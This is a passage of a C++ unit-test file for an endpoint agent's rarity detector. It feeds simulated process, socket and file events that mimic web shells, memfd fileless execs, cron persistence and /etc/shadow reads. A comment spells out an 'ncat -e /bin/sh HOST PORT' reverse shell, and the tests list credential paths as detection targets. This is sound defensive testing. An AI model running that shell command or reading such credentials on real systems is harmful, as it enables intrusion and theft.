// The rarity path (rarity.h): behaviour keys, host memory, fleet prevalence,
// the rare-* detector and its place in the pipeline.
#include "vigil/agent/rarity.h"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <algorithm>
#include <fstream>
#include <map>

#include "util/records.h"
#include "util/test_util.h"
#include "vigil/abi.h"
#include "vigil/agent/config.h"
#include "vigil/agent/pipeline.h"

namespace vigil::agent {
namespace {

constexpr double kT0 = 1'700'000'000;  // wall-clock seconds
constexpr double kDay = 86400;
// Programs of the detector tests live where nothing exists on a test machine:
// stat() finds no file, so no "freshly written" context sneaks in.
#define OPT "/opt/vigil-test"

std::string exe_key(std::string_view exe) {
  std::string out;
  append_normalised_exe(exe, out);
  return out;
}

std::string path_key(std::string_view path) {
  std::string out;
  append_path_class(path, out);
  return out;
}

std::uint64_t ns(double s) { return static_cast<std::uint64_t>(s * 1e9); }

// Events as the process table has applied them (the detector's input). Paths
// do not exist on this machine: no "freshly written" context from stat().
Event exec_event(std::uint32_t pid, std::uint32_t ppid, std::string exe, double t,
                 std::uint32_t uid = 1000, std::uint32_t euid = 1000) {
  Event e;
  e.type = EventType::kExec;
  e.pid = pid;
  e.tid = pid;
  e.ppid = ppid;
  e.uid = uid;
  e.euid = euid;
  e.comm = exe.substr(exe.rfind('/') + 1).substr(0, 15);
  e.exe = std::move(exe);
  e.ts_ns = ns(t);
  e.data = ExecData{};
  return e;
}

Event sock_event(EventType type, std::uint32_t pid, double t, std::string raddr,
                 std::uint16_t rport, std::uint16_t lport = 0, std::int32_t ret = 0) {
  Event e;
  e.type = type;
  e.pid = pid;
  e.tid = pid;
  e.uid = e.euid = 1000;
  e.ts_ns = ns(t);
  SockData s;
  s.ret = ret;
  s.family = 2;
  s.proto = 6;
  s.raddr = std::move(raddr);
  s.rport = rport;
  s.lport = lport;
  e.data = s;
  return e;
}

Event file_event(std::uint32_t pid, std::uint32_t op, std::string path, double t,
                 std::string new_path = {}) {
  Event e;
  e.type = EventType::kFile;
  e.pid = pid;
  e.tid = pid;
  e.uid = e.euid = 1000;
  e.ts_ns = ns(t);
  FileData f;
  f.op = op;
  f.path = std::move(path);
  f.new_path = std::move(new_path);
  e.data = f;
  return e;
}

// A process table (no /proc) and a detector, fed like the pipeline feeds them.
struct Host {
  explicit Host(RarityConfig config = {.learn_s = 0}) : rarity(config) {}
  ProcessTable table{1000, ""};
  RarityDetector rarity;

  const RarityHit& feed(Event e) {
    table.apply(e);
    return rarity.evaluate(e, table);
  }
  // systemd (1) -> a service (10), which listens when `listens`.
  void service(std::uint32_t pid, const std::string& exe, double t, bool listens,
               std::uint32_t uid = 33) {
    (void)feed(exec_event(1, 0, OPT "/systemd", t, 0, 0));
    (void)feed(exec_event(pid, 1, exe, t, uid, uid));
    if (listens) {
      auto l = sock_event(EventType::kListen, pid, t, "", 0, 8080);
      l.uid = l.euid = uid;
      (void)feed(std::move(l));
    }
  }
};

std::vector<std::string_view> context_names(std::uint32_t bits) {
  std::vector<std::string_view> out;
  for (const auto& c : rarity_contexts()) {
    if ((bits & c.bit) != 0) out.push_back(c.name);
  }
  return out;
}

TEST(Rarity, BehaviourHashIsFnv1a64) {
  static_assert(behaviour_hash("") == 0xcbf29ce484222325ULL);
  EXPECT_EQ(behaviour_hash("a"), 0xaf63dc4c8601ec8cULL);
  EXPECT_EQ(behaviour_hash("foobar"), 0x85944171f73967e8ULL);
  EXPECT_NE(behaviour_hash("pc|/bin/a|/bin/b"), behaviour_hash("pc|/bin/b|/bin/a"));
}

TEST(Rarity, ExecutablesAreNormalised) {
  EXPECT_EQ(exe_key("/tmp/vigil-x1/work/app"), "/tmp/**/app");
  EXPECT_EQ(exe_key("/tmp/app"), "/tmp/**/app");
  EXPECT_EQ(exe_key("/tmp/a1b2"), "/tmp/**/a1b2") << "digits in a basename stay: a1b2 stays novel";
  EXPECT_EQ(exe_key("/var/tmp/x/y"), "/var/tmp/**/y");
  EXPECT_EQ(exe_key("/dev/shm/.x"), "/dev/shm/**/.x");
  EXPECT_EQ(exe_key("/run/user/1000/app"), "/run/user/**/app");
  EXPECT_EQ(exe_key("/tmp/x/app (deleted)"), "/tmp/**/app");
  EXPECT_EQ(exe_key("/memfd:payload (deleted)"), "memfd:payload");
  EXPECT_EQ(exe_key("/usr/sbin/nginx (deleted)"), "/usr/sbin/nginx") << "an upgraded binary";
  EXPECT_EQ(exe_key("/usr/bin/curl"), "/usr/bin/curl");
  EXPECT_EQ(exe_key("/tmpfoo/app"), "/tmpfoo/app") << "/tmp as a whole component only";
}

TEST(Rarity, FileTargetsAreClassed) {
  EXPECT_EQ(path_key("/etc/shadow"), "/etc/shadow");
  EXPECT_EQ(path_key("/etc/ld.so.preload"), "/etc/ld.so.preload");
  EXPECT_EQ(path_key("/home/alice/.ssh/authorized_keys"), "~/.ssh/authorized_keys");
  EXPECT_EQ(path_key("/root/.bashrc"), "~/.bashrc");
  EXPECT_EQ(path_key("/home/bob/.ssh/known_hosts"), "~/.ssh");
  EXPECT_EQ(path_key("/etc/cron.d/job"), "/etc/cron.d");
  EXPECT_EQ(path_key("/home/bob/src/a/b/c/main.c"), "~/src/a/b");
  EXPECT_EQ(path_key("/usr/lib/python3.11/site-packages/x.py"), "/usr/lib/*");
  EXPECT_EQ(path_key("/var/lib/docker/overlay2/ab12/diff/f"), "/var/lib/docker");
  EXPECT_EQ(path_key("/proc/1234/mem"), "/proc/*");
  EXPECT_EQ(path_key("/tmp/x9/y/z"), "/tmp/**");
  EXPECT_EQ(path_key("/dev/shm/f"), "/dev/shm/**");
  EXPECT_EQ(path_key("/f"), "/");
}

TEST(Rarity, AddressAndUidClasses) {
  EXPECT_EQ(address_class("127.0.0.1"), "loopback");
  EXPECT_EQ(address_class("::1"), "loopback");
  EXPECT_EQ(address_class("10.1.2.3"), "private");
  EXPECT_EQ(address_class("172.16.0.1"), "private");
  EXPECT_EQ(address_class("172.32.0.1"), "public");
  EXPECT_EQ(address_class("192.168.1.1"), "private");
  EXPECT_EQ(address_class("100.64.0.1"), "private");
  EXPECT_EQ(address_class("169.254.169.254"), "linklocal");
  EXPECT_EQ(address_class("fe80::1%eth0"), "linklocal");
  EXPECT_EQ(address_class("fd00::1"), "private");
  EXPECT_EQ(address_class("::ffff:10.0.0.1"), "private");
  EXPECT_EQ(address_class("8.8.8.8"), "public");
  EXPECT_EQ(address_class("2001:db8::1"), "public");
  EXPECT_EQ(address_class(""), "unknown");
  EXPECT_EQ(address_class("not-an-address"), "unknown");
  EXPECT_EQ(uid_class(0), "root");
  EXPECT_EQ(uid_class(33), "system");
  EXPECT_EQ(uid_class(1000), "user");
  EXPECT_EQ(uid_class(65534), "nobody");
}

TEST(Rarity, SensitiveTargets) {
  EXPECT_TRUE(is_sensitive_target("/etc/shadow", false));
  EXPECT_TRUE(is_sensitive_target("/etc/cron.d/x", true));
  EXPECT_TRUE(is_sensitive_target("/etc/systemd/system/x.service", true));
  EXPECT_TRUE(is_sensitive_target("/home/a/.ssh/id_rsa", false));
  EXPECT_TRUE(is_sensitive_target("/root/.bashrc", true));
  EXPECT_TRUE(is_sensitive_target("/usr/bin/ls", true));
  EXPECT_FALSE(is_sensitive_target("/usr/bin/ls", false)) << "reading a binary is no target";
  EXPECT_FALSE(is_sensitive_target("/var/log/syslog", true));
  EXPECT_FALSE(is_sensitive_target("/home/a/notes.txt", true));
}

TEST(Rarity, KeysPerEventKind) {
  Host h;
  h.service(10, "/usr/sbin/nginx", kT0, false);
  BehaviourKeys k;

  auto sh = exec_event(11, 10, "/bin/sh", kT0, 33, 33);
  h.table.apply(sh);
  ASSERT_TRUE(build_behaviour_keys(sh, h.table, k));
  EXPECT_EQ(k.kind, RarityKind::kExec);
  ASSERT_EQ(k.n, 3U);
  EXPECT_EQ(k.keys[0], "pc|/usr/sbin/nginx|/bin/sh");
  EXPECT_EQ(k.keys[1], "ux|system|/bin/sh");
  EXPECT_EQ(k.keys[2], "lin|" OPT "/systemd|/usr/sbin/nginx|/bin/sh");

  auto orphan = exec_event(50, 49, "/tmp/x7/dropper", kT0);
  h.table.apply(orphan);
  ASSERT_TRUE(build_behaviour_keys(orphan, h.table, k));
  EXPECT_EQ(k.keys[0], "pc|?|/tmp/**/dropper") << "an unknown parent";

  auto cn = sock_event(EventType::kConnect, 11, kT0, "1.2.3.4", 443);
  h.table.apply(cn);
  ASSERT_TRUE(build_behaviour_keys(cn, h.table, k));
  EXPECT_EQ(k.kind, RarityKind::kConnect);
  ASSERT_EQ(k.n, 1U);
  EXPECT_EQ(k.keys[0], "cn|/bin/sh|443|public");
  ASSERT_TRUE(k.has_dst);
  EXPECT_EQ(k.dst, "dst|1.2.3.4|443");
  EXPECT_TRUE(is_host_only_key(k.dst));
  auto pending = sock_event(EventType::kConnect, 11, kT0, "10.0.0.5", 22, 0, -EINPROGRESS);
  h.table.apply(pending);
  ASSERT_TRUE(build_behaviour_keys(pending, h.table, k)) << "a non-blocking connect in progress";
  EXPECT_EQ(k.keys[0], "cn|/bin/sh|22|private");
  EXPECT_FALSE(build_behaviour_keys(
      sock_event(EventType::kConnect, 11, kT0, "1.2.3.4", 443, 0, -ECONNREFUSED), h.table, k))
      << "a refused connect is no behaviour";
  auto udp = sock_event(EventType::kUdpSend, 11, kT0, "127.0.0.53", 53);
  h.table.apply(udp);
  ASSERT_TRUE(build_behaviour_keys(udp, h.table, k));
  EXPECT_EQ(k.keys[0], "cn|/bin/sh|53|loopback");

  auto ls = sock_event(EventType::kListen, 50, kT0, "", 0, 4444);
  h.table.apply(ls);
  ASSERT_TRUE(build_behaviour_keys(ls, h.table, k));
  EXPECT_EQ(k.kind, RarityKind::kListener);
  EXPECT_EQ(k.keys[0], "ls|/tmp/**/dropper|4444");

  auto mv = file_event(11, VIGIL_FILE_RENAME, "/tmp/job", kT0, "/etc/cron.d/job");
  h.table.apply(mv);
  ASSERT_TRUE(build_behaviour_keys(mv, h.table, k));
  EXPECT_EQ(k.kind, RarityKind::kFileWrite);
  EXPECT_EQ(k.keys[0], "fw|/bin/sh|/etc/cron.d") << "a rename writes its new name";
  EXPECT_EQ(k.target, "/etc/cron.d/job");
  auto rd = file_event(11, VIGIL_FILE_READ_SENSITIVE, "/etc/shadow", kT0);
  h.table.apply(rd);
  ASSERT_TRUE(build_behaviour_keys(rd, h.table, k));
  EXPECT_EQ(k.kind, RarityKind::kFileRead);
  EXPECT_EQ(k.keys[0], "fr|/bin/sh|/etc/shadow");
  auto failed = file_event(11, VIGIL_FILE_WRITE, "/etc/passwd", kT0);
  std::get<FileData>(failed.data).ret = -13;
  EXPECT_FALSE(build_behaviour_keys(failed, h.table, k)) << "a failed write changed nothing";

  Event wx;
  wx.type = EventType::kWxMemory;
  wx.pid = 11;
  wx.data = MemProtData{};
  h.table.apply(wx);
  ASSERT_TRUE(build_behaviour_keys(wx, h.table, k));
  EXPECT_EQ(k.kind, RarityKind::kWx);
  EXPECT_EQ(k.keys[0], "wx|/bin/sh");

  Event exit;
  exit.type = EventType::kExit;
  exit.pid = 11;
  exit.data = ExitData{};
  EXPECT_FALSE(build_behaviour_keys(exit, h.table, k));
}

TEST(Rarity, SeverityComesFromTheContexts) {
  EXPECT_EQ(rarity_severity(0), 30U);
  EXPECT_EQ(rarity_severity(kCtxWritableLocation), 45U) << "writable alone: a hint";
  EXPECT_EQ(rarity_severity(kCtxNetworkFacing), 55U) << "network-facing alone alerts";
  EXPECT_EQ(rarity_severity(kCtxPrivilegeChange), 50U);
  EXPECT_EQ(rarity_severity(kCtxNetworkFacing | kCtxUnbackedExe | kCtxPrivilegeChange), 75U)
      << "capped at 75";
}

TEST(Rarity, ContextsOfNovelBehaviours) {
  Host h;
  const double t = kT0;
  const auto& st = h.rarity.stats();
  // A web shell: a listening service starts a shell.
  h.service(10, OPT "/nginx", t, true);
  const auto& shell = h.feed(exec_event(11, 10, OPT "/sh", t + 1, 33, 33));
  ASSERT_TRUE(shell);
  EXPECT_EQ(shell.indicator->id, "rare-exec");
  EXPECT_EQ(context_names(shell.contexts), std::vector<std::string_view>{"network-facing"});
  EXPECT_EQ(shell.severity, 55U);
  EXPECT_EQ(shell.key, "pc|" OPT "/nginx|" OPT "/sh");
  EXPECT_EQ(shell.fleet_hosts, 0U);

  // The same pair again: known now.
  EXPECT_FALSE(h.feed(exec_event(12, 10, OPT "/sh", t + 2, 33, 33)));

  // A login service's shells are not network-facing.
  h.service(20, OPT "/sshd", t, true, 0);
  auto no_context = st.no_context;
  EXPECT_FALSE(h.feed(exec_event(21, 20, OPT "/bash", t + 3, 1000, 1000)));
  EXPECT_EQ(st.no_context, no_context + 1);

  // Writable location alone: a hint below the alert threshold.
  h.service(30, OPT "/bash", t, false, 1000);
  const auto& dropped = h.feed(exec_event(31, 30, "/tmp/x1/miner", t + 4));
  ASSERT_TRUE(dropped);
  EXPECT_EQ(context_names(dropped.contexts), std::vector<std::string_view>{"writable-location"});
  EXPECT_EQ(dropped.severity, 45U);

  // Privilege change: euid 0 for a user.
  const auto& suid = h.feed(exec_event(32, 30, OPT "/helper", t + 5, 1000, 0));
  ASSERT_TRUE(suid);
  EXPECT_EQ(context_names(suid.contexts), std::vector<std::string_view>{"privilege-change"});
  EXPECT_EQ(suid.severity, 50U);

  // Unbacked: a memfd program (also a "writable" location).
  const auto& memfd = h.feed(exec_event(33, 30, "/memfd:x (deleted)", t + 6));
  ASSERT_TRUE(memfd);
  EXPECT_EQ(context_names(memfd.contexts),
            (std::vector<std::string_view>{"unbacked-exe", "writable-location"}));
  EXPECT_EQ(memfd.severity, 70U);

  // A new program connecting to a new destination; another new program to
  // that (now known) destination is in no context.
  (void)h.feed(exec_event(40, 30, OPT "/agent", t + 7));
  (void)h.feed(exec_event(41, 30, OPT "/other", t + 7));
  const auto& out = h.feed(sock_event(EventType::kConnect, 40, t + 8, "203.0.113.9", 8443));
  ASSERT_TRUE(out);
  EXPECT_EQ(out.indicator->id, "rare-connect");
  EXPECT_EQ(context_names(out.contexts), std::vector<std::string_view>{"new-destination"});
  EXPECT_EQ(out.severity, 45U);
  no_context = st.no_context;
  EXPECT_FALSE(h.feed(sock_event(EventType::kConnect, 41, t + 9, "203.0.113.9", 8443)));
  EXPECT_EQ(st.no_context, no_context + 1) << "known destination, new program";

  // Sensitive files.
  const auto& cron = h.feed(file_event(30, VIGIL_FILE_CREATE, "/etc/cron.d/update", t + 10));
  ASSERT_TRUE(cron);
  EXPECT_EQ(cron.indicator->id, "rare-file-write");
  EXPECT_EQ(context_names(cron.contexts), std::vector<std::string_view>{"sensitive-target"});
  EXPECT_EQ(cron.severity, 55U);
  const auto& shadow = h.feed(file_event(30, VIGIL_FILE_READ_SENSITIVE, "/etc/shadow", t + 11));
  ASSERT_TRUE(shadow);
  EXPECT_EQ(shadow.indicator->id, "rare-file-read");
  EXPECT_FALSE(h.feed(file_event(30, VIGIL_FILE_WRITE, "/var/log/app/x.log", t + 11)))
      << "not sensitive, no other context";

  // A program run by a listener that itself starts listening: its parent
  // listens (network-facing); its own listen would not count.
  (void)h.feed(exec_event(13, 10, OPT "/socat", t + 12, 33, 33));
  const auto& bind = h.feed(sock_event(EventType::kListen, 13, t + 13, "", 0, 4444));
  ASSERT_TRUE(bind);
  EXPECT_EQ(bind.indicator->id, "rare-listener");
  EXPECT_EQ(context_names(bind.contexts), std::vector<std::string_view>{"network-facing"});
  EXPECT_EQ(st.hits, 9U);
  EXPECT_EQ(st.hits_by_kind[static_cast<std::size_t>(RarityKind::kExec)], 5U);
  EXPECT_EQ(st.hits_by_kind[static_cast<std::size_t>(RarityKind::kListener)], 1U);

  // The catalogue has every kind, unslotted.
  for (const auto* id : {"rare-exec", "rare-connect", "rare-listener", "rare-file-write",
                         "rare-file-read", "rare-wx"}) {
    const auto* ind = find_indicator(id);
    ASSERT_NE(ind, nullptr) << id;
    EXPECT_FALSE(ind->summary.empty());
    EXPECT_LT(ind->severity, 50) << "the catalogue's severity is the least a hit can have";
    EXPECT_TRUE(
        std::ranges::any_of(unslotted_indicators(), [&](const Indicator& i) { return &i == ind; }))
        << id << " is unslotted";
  }
}

TEST(Rarity, AProgramStartedByAProcessThatJustConnectedOutIsNetworkFacing) {
  Host h;
  const double t = kT0;
  // `ncat -e /bin/sh HOST PORT`: ncat connects out, then starts a shell on
  // pipes it relays (the shell's stdin is no socket).
  h.service(30, OPT "/bash", t, false, 1000);
  (void)h.feed(exec_event(50, 30, OPT "/ncat", t + 1));
  (void)h.feed(sock_event(EventType::kConnect, 50, t + 2, "198.51.100.7", 4444));
  const auto& relay = h.feed(exec_event(51, 50, OPT "/sh", t + 3));
  ASSERT_TRUE(relay);
  EXPECT_EQ(relay.indicator->id, "rare-exec");
  EXPECT_EQ(context_names(relay.contexts), std::vector<std::string_view>{"network-facing"});
  EXPECT_EQ(relay.severity, 55U);
  // A minute later the connection no longer speaks for what the parent starts.
  const auto& later = h.feed(exec_event(52, 50, OPT "/id", t + 3 + 61));
  EXPECT_FALSE(later) << context_names(later.contexts).size();
  // A failed connect is no connection.
  (void)h.feed(exec_event(60, 30, OPT "/curl", t + 70));
  (void)h.feed(sock_event(EventType::kConnect, 60, t + 71, "198.51.100.8", 80, 0, -111));
  EXPECT_FALSE(h.feed(exec_event(61, 60, OPT "/tar", t + 72)));
}

TEST(Rarity, AFilelessExecIsKeyedByItsMemfdAndIsUnbacked) {
  Host h;
  const double t = kT0;
  h.service(30, OPT "/bash", t, false, 1000);
  // The exec record names /dev/fd/N (fexecve; a descriptor this test process
  // does not have, so stat() finds no fresh file): nothing risky alone.
  EXPECT_FALSE(h.feed(exec_event(70, 30, "/dev/fd/987", t + 1)));
  Event f;
  f.type = EventType::kFilelessExec;
  f.pid = f.tid = 70;
  f.ppid = 30;
  f.uid = f.euid = 1000;
  f.exe = "/dev/fd/987";
  f.ts_ns = ns(t + 1);
  f.data = FilelessExecData{
      .nlink = 0, .memfd = true, .filename = "/dev/fd/987", .dname = "memfd:payload"};
  const auto& hit = h.feed(f);
  ASSERT_TRUE(hit);
  EXPECT_EQ(hit.indicator->id, "rare-exec");
  EXPECT_EQ(hit.key, "pc|" OPT "/bash|memfd:payload");
  EXPECT_EQ(context_names(hit.contexts), std::vector<std::string_view>{"unbacked-exe"});
  EXPECT_EQ(hit.severity, 55U);
  // The same name again from the same parent: known.
  f.pid = f.tid = 71;
  EXPECT_FALSE(h.feed(f));
}

TEST(Rarity, NothingIsRaisedDuringTheLearningWindow) {
  Host h({.learn_s = 3600});
  h.service(10, OPT "/nginx", kT0, true);
  EXPECT_FALSE(h.feed(exec_event(11, 10, OPT "/sh", kT0 + 60, 33, 33))) << "learning";
  EXPECT_FALSE(h.feed(exec_event(12, 10, OPT "/id", kT0 + 3000, 33, 33))) << "learning";
  EXPECT_EQ(h.rarity.stats().novel, 0U) << "novelty is not counted while learning";
  EXPECT_EQ(h.rarity.memory().started(), kT0);
  EXPECT_TRUE(h.rarity.memory().learning(kT0 + 3599, 3600));
  // After the window: what was seen while learning never fires...
  EXPECT_FALSE(h.feed(exec_event(13, 10, OPT "/sh", kT0 + 4000, 33, 33)));
  EXPECT_FALSE(h.feed(exec_event(14, 10, OPT "/id", kT0 + 4001, 33, 33)));
  // ... what is new does.
  const auto& hit = h.feed(exec_event(15, 10, OPT "/python3", kT0 + 4002, 33, 33));
  ASSERT_TRUE(hit);
  EXPECT_EQ(hit.key, "pc|" OPT "/nginx|" OPT "/python3");
  EXPECT_EQ(h.rarity.stats().novel, 1U);
}

TEST(Rarity, CommonInTheFleetIsSuppressed) {
  Host h;
  h.service(10, OPT "/nginx", kT0, true);
  const std::string pc = "pc|" OPT "/nginx|" OPT "/sh";
  const std::string ux = "ux|system|" OPT "/sh";
  const std::string lin = "lin|" OPT "/systemd|" OPT "/nginx|" OPT "/sh";
  std::vector<std::uint64_t> keys = {behaviour_hash(pc), behaviour_hash(ux), behaviour_hash(lin)};
  std::ranges::sort(keys);
  // 10 hosts: common from max(3, ceil(0.05 * 10)) = 3 hosts.
  ASSERT_OK(h.rarity.apply_prevalence(10, keys, std::vector<std::uint32_t>{3, 3, 3}, 30));
  EXPECT_EQ(h.rarity.fleet().common_threshold(3, 0.05), 3U);
  const auto novel = h.rarity.stats().novel;
  EXPECT_FALSE(h.feed(exec_event(11, 10, OPT "/sh", kT0 + 1, 33, 33)));
  EXPECT_EQ(h.rarity.stats().novel, novel + 1);
  EXPECT_EQ(h.rarity.stats().fleet_common, 1U);

  // Two hosts of ten: rare; the hit says how many saw it.
  Host h2;
  h2.service(10, OPT "/nginx", kT0, true);
  ASSERT_OK(h2.rarity.apply_prevalence(10, keys, std::vector<std::uint32_t>{2, 2, 2}, 30));
  const auto& hit = h2.feed(exec_event(11, 10, OPT "/sh", kT0 + 1, 33, 33));
  ASSERT_TRUE(hit);
  EXPECT_EQ(hit.fleet_hosts, 2U);

  // By fraction: of 200 hosts, 5 % is 10; 9 hosts is rare, 10 common.
  FleetPrevalence f;
  ASSERT_OK(f.assign(200, std::vector<std::uint64_t>{5, 7}, std::vector<std::uint32_t>{9, 10}, 30));
  EXPECT_EQ(f.common_threshold(3, 0.05), 10U);
  EXPECT_FALSE(f.common(5, 3, 0.05));
  EXPECT_TRUE(f.common(7, 3, 0.05));
  EXPECT_FALSE(f.common(6, 3, 0.05)) << "absent: at most one host";
  EXPECT_EQ(f.hosts(6), 0U);
  EXPECT_EQ(f.window_days(), 30U);
  FleetPrevalence none;
  EXPECT_FALSE(none.common(5, 1, 0)) << "no table: everything is rare";
}

TEST(Rarity, MalformedPrevalenceTablesAreRefused) {
  RarityDetector d;
  ASSERT_OK(d.apply_prevalence(5, std::vector<std::uint64_t>{1, 2},
                               std::vector<std::uint32_t>{2, 3}, 30));
  EXPECT_FALSE(
      d.apply_prevalence(5, std::vector<std::uint64_t>{2, 1}, std::vector<std::uint32_t>{2, 3}, 30))
      << "unsorted";
  EXPECT_FALSE(
      d.apply_prevalence(5, std::vector<std::uint64_t>{1, 1}, std::vector<std::uint32_t>{2, 3}, 30))
      << "duplicate";
  EXPECT_FALSE(
      d.apply_prevalence(5, std::vector<std::uint64_t>{1, 2}, std::vector<std::uint32_t>{2}, 30))
      << "hosts not parallel";
  EXPECT_EQ(d.stats().prevalence_updates, 1U);
  EXPECT_EQ(d.stats().prevalence_refused, 3U);
  EXPECT_EQ(d.fleet().hosts(2), 3U) << "the previous table stays";
  EXPECT_EQ(d.fleet().fleet_hosts(), 5U);
}

TEST(Rarity, MemoryIsBoundedLeastRecentlySeenFirst) {
  BehaviourMemory m(3);
  EXPECT_EQ(m.observe("a", kT0), 0U);
  EXPECT_EQ(m.observe("b", kT0 + 1), 0U);
  EXPECT_EQ(m.observe("c", kT0 + 2), 0U);
  EXPECT_EQ(m.observe("a", kT0 + 3), 1U);  // a is recent again
  EXPECT_EQ(m.observe("d", kT0 + 4), 0U);  // evicts b
  EXPECT_EQ(m.size(), 3U);
  EXPECT_EQ(m.stats().evicted, 1U);
  EXPECT_FALSE(m.contains("b"));
  EXPECT_TRUE(m.contains("a"));
  EXPECT_EQ(m.observe("b", kT0 + 5), 0U) << "evicted: new again";
  EXPECT_EQ(m.stats().evicted, 2U);
  EXPECT_FALSE(m.contains("c"));
}

TEST(Rarity, KeysAgeOutAfterThirtyDays) {
  BehaviourMemory m;
  EXPECT_EQ(m.observe("k", kT0), 0U);
  EXPECT_EQ(m.observe("k", kT0 + 1), 1U);
  EXPECT_EQ(m.count("k", kT0 + 29 * kDay), 2U);
  EXPECT_EQ(m.count("k", kT0 + 31 * kDay), 0U);
  EXPECT_EQ(m.observe("k", kT0 + 31 * kDay), 0U) << "not seen for 30 days: new again";
  EXPECT_EQ(m.count("k", kT0 + 31 * kDay), 1U);
  EXPECT_EQ(m.started(), kT0);
}

TEST(Rarity, MemorySurvivesARestart) {
  test::TempDir dir;
  const auto path = dir.path() / "behaviours.tsv";
  BehaviourMemory m;
  (void)m.observe("pc|/usr/sbin/nginx|/bin/sh", kT0);
  (void)m.observe("pc|/usr/sbin/nginx|/bin/sh", kT0 + 5);
  (void)m.observe("fw|/bin/sh|/tmp/**", kT0 + 6);
  (void)m.observe("weird\tkey%with\nbytes", kT0 + 7);
  (void)m.observe("old", kT0 - 40 * kDay);
  std::vector<std::uint64_t> hashes;
  ASSERT_EQ(m.take_report(kT0 + 10, 100, hashes), 3U) << "the aged key is not reported";
  (void)m.observe("unreported", kT0 + 11);
  ASSERT_OK(m.save(path));
  struct stat st {};
  ASSERT_EQ(::stat(path.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0640U);

  BehaviourMemory back;
  ASSERT_OK(back.load(path, kT0 + 20));
  EXPECT_EQ(back.started(), m.started());
  EXPECT_EQ(back.size(), 4U) << "the key older than 30 days is dropped";
  EXPECT_EQ(back.count("pc|/usr/sbin/nginx|/bin/sh", kT0 + 20), 2U);
  EXPECT_EQ(back.count("weird\tkey%with\nbytes", kT0 + 20), 1U);
  EXPECT_FALSE(back.contains("old"));
  hashes.clear();
  ASSERT_EQ(back.take_report(kT0 + 30, 100, hashes), 1U) << "what was reported stays reported";
  EXPECT_EQ(hashes.front(), behaviour_hash("unreported"));

  // Missing: empty, not an error.
  BehaviourMemory fresh;
  ASSERT_OK(fresh.load(dir.path() / "none.tsv", kT0));
  EXPECT_EQ(fresh.size(), 0U);
}

TEST(Rarity, MalformedMemoryFileIsAnErrorAndLearningStartsOver) {
  test::TempDir dir;
  const auto path = dir.path() / "behaviours.tsv";
  {
    std::ofstream out(path);
    out << "started\t1700000000.000\n"
        << "3\t1700000000.000\t1700000001.000\t0.000\tpc|a|b\n"
        << "3\t1700000000.000\tnot-a-time\t0.000\tpc|a|c\n";
  }
  BehaviourMemory m;
  auto r = m.load(path, kT0 + 10);
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().message.find("behaviours.tsv:3"), std::string::npos) << r.error().message;
  EXPECT_EQ(m.size(), 0U);
  EXPECT_EQ(m.started(), 0) << "a damaged memory learns again rather than call everything new";
  {
    std::ofstream out(path);
    out << "started\t1700000000.000\n"
        << "1\t2\t3\n";
  }
  r = m.load(path, kT0);
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().message.find(":2:"), std::string::npos) << r.error().message;
}

TEST(Rarity, KeysAreReportedOnceADayAndHostOnlyKeysNever) {
  BehaviourMemory m;
  for (const auto* k : {"a", "b", "c", "d", "e"}) (void)m.observe(k, kT0);
  (void)m.observe("dst|203.0.113.9|443", kT0);
  EXPECT_TRUE(m.report_due(kT0));
  std::vector<std::uint64_t> out;
  EXPECT_EQ(m.take_report(kT0, 2, out), 2U);
  EXPECT_TRUE(m.report_due(kT0)) << "more than one report's worth";
  EXPECT_EQ(m.take_report(kT0, 2, out), 2U);
  EXPECT_EQ(m.take_report(kT0, 2, out), 1U);
  EXPECT_EQ(m.take_report(kT0, 2, out), 0U);
  EXPECT_EQ(out.size(), 5U);
  EXPECT_EQ(std::ranges::count(out, behaviour_hash("dst|203.0.113.9|443")), 0)
      << "a host-only key never leaves the host";
  std::ranges::sort(out);
  EXPECT_EQ(std::ranges::adjacent_find(out), out.end()) << "each key once";
  EXPECT_EQ(m.stats().reported, 5U);
  EXPECT_FALSE(m.report_due(kT0 + 3600));
  out.clear();
  EXPECT_EQ(m.take_report(kT0 + 3600, 100, out), 0U) << "reported within the day";
  (void)m.observe("f", kT0 + 3601);
  EXPECT_TRUE(m.report_due(kT0 + 3601)) << "a new key is due at once";
  EXPECT_EQ(m.take_report(kT0 + 3601, 100, out), 1U);
  out.clear();
  EXPECT_TRUE(m.report_due(kT0 + kDay + 1));
  EXPECT_EQ(m.take_report(kT0 + kDay + 1, 100, out), 5U) << "a day later: reported again";
  m.report_all_again();
  out.clear();
  EXPECT_EQ(m.take_report(kT0 + kDay + 2, 100, out), 6U);
}

TEST(Rarity, ConfigKeysFlagsAndValidation) {
  AgentConfig cfg;
  EXPECT_TRUE(cfg.rarity);
  EXPECT_EQ(cfg.rarity_learn_s, 86400);
  EXPECT_EQ(cfg.rarity_max_keys, 50000U);
  EXPECT_EQ(cfg.rarity_fleet_common_hosts, 3U);
  EXPECT_DOUBLE_EQ(cfg.rarity_fleet_common_fraction, 0.05);
  EXPECT_TRUE(cfg.builtin_detections);
  ASSERT_OK(apply_yaml(
      "rarity: false\nrarity_learn_s: 60\nrarity_max_keys: 1000\nrarity_fleet_common_hosts: 5\n"
      "rarity_fleet_common_fraction: 0.1\nbuiltin_detections: false\n",
      cfg));
  EXPECT_FALSE(cfg.rarity);
  EXPECT_EQ(cfg.rarity_learn_s, 60);
  EXPECT_EQ(cfg.rarity_max_keys, 1000U);
  EXPECT_EQ(cfg.rarity_fleet_common_hosts, 5U);
  EXPECT_DOUBLE_EQ(cfg.rarity_fleet_common_fraction, 0.1);
  EXPECT_FALSE(cfg.builtin_detections);
  ASSERT_OK(validate(cfg));
  auto bad = [](auto mutate, std::string_view why) {
    AgentConfig c;
    mutate(c);
    const auto r = validate(c);
    ASSERT_FALSE(r) << why;
    EXPECT_NE(r.error().message.find(why), std::string::npos) << r.error().message;
  };
  bad([](AgentConfig& c) { c.rarity_learn_s = -1; }, "rarity_learn_s");
  bad([](AgentConfig& c) { c.rarity_max_keys = 10; }, "rarity_max_keys");
  bad([](AgentConfig& c) { c.rarity_fleet_common_hosts = 0; }, "rarity_fleet_common_hosts");
  bad([](AgentConfig& c) { c.rarity_fleet_common_fraction = 1.5; }, "rarity_fleet_common_fraction");

  const char* argv[] = {"vigil-agent",    "--rarity", "off",
                        "--rarity-learn", "120",      "--no-builtin-detections"};
  const auto parsed = parse_args(6, argv);
  ASSERT_FALSE(parsed.exit_now);
  EXPECT_FALSE(parsed.config.rarity);
